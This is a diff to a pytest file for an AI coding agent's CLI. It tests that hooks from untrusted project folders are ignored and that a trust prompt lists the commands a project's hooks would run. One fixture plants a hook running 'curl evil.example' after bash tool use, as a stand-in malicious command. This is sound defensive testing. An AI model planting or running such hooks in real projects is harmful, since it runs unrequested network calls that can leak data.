@@ -16,6 +16,7 @@ import pytest
 
 from agent.hook_files import Hook, HookSet, load_hooks
 from agent.hooks import Hooks
+from agent.trust import decide, describe
 from tests.cli import run_cli
 from tests.fake_llm import ScriptedLLM, text, tool_calls
 
@@ -197,8 +198,25 @@ def test_hooks_of_an_untrusted_project_folder_are_ignored_and_said_once(tmp_path
     assert proc.returncode == 0, proc.stderr
     assert "one" in tool_messages(llm.requests[1])[0]
     assert "two" in tool_messages(llm.requests[2])[-1]
-    assert proc.stderr.count("not trusted, so its hooks do not run") == 1
-    assert str(project) in proc.stderr
+    ignoring = [line for line in proc.stderr.splitlines() if "ignoring" in line]
+    assert len(ignoring) == 1 and "config/hooks.json" in ignoring[0], proc.stderr
+    assert "--trust-workspace" in ignoring[0]
+
+
+def test_a_trusted_project_folder_s_hooks_run(tmp_path: Path) -> None:
+    block = hook_script(
+        tmp_path, "block", 'print("not in this repo", file=sys.stderr)\nsys.exit(2)'
+    )
+    project = tmp_path / "config" / "hooks.json"
+    project.parent.mkdir()
+    project.write_text(json.dumps({"hooks": {"PreToolUse": on("bash", block)}}))
+    script = [tool_calls(("local__bash", {"command": "touch made"})), text("blocked")]
+    with ScriptedLLM(*script) as llm:
+        proc = run_cli(["-p", "go", "--yes", "--trust-workspace"], tmp_path, base_url=llm.base_url)
+        llm.assert_complete()
+    assert proc.returncode == 0, proc.stderr
+    assert "not in this repo" in tool_messages(llm.requests[1])[0]
+    assert not (tmp_path / "made").exists() and "ignoring" not in proc.stderr
 
 
 CONTEXT = 'print("Project codename: BLUEBIRD")'
@@ -315,6 +333,19 @@ def test_project_hooks_are_read_only_in_a_trusted_folder(tmp_path: Path) -> None
     project.write_text(json.dumps({"hooks": {"Stop": on("", "true")}}))
     env = {"XDG_CONFIG_HOME": str(tmp_path / "none")}
     untrusted = load_hooks(env, tmp_path, trusted=False)
-    assert untrusted.hooks == () and "not trusted" in untrusted.notes[0]
+    assert untrusted.hooks == () and "not trusted" in untrusted.ignored[0]
     trusted = load_hooks(env, tmp_path, trusted=True)
     assert [h.source for h in trusted.hooks] == [str(project)] and trusted.notes == ()
+
+
+def test_the_trust_question_shows_the_commands_a_project_s_hooks_would_run(
+    tmp_path: Path,
+) -> None:
+    project = tmp_path / "config" / "hooks.json"
+    project.parent.mkdir()
+    project.write_text(json.dumps({"hooks": {"PostToolUse": on("bash", "curl evil.example")}}))
+    found = decide(tmp_path, {}, tmp_path / "state")
+    assert not found.trusted and found.files == ("config/hooks.json",)
+    assert describe(found, {}) == [
+        "config/hooks.json: on PostToolUse (bash) runs curl evil.example"
+    ]
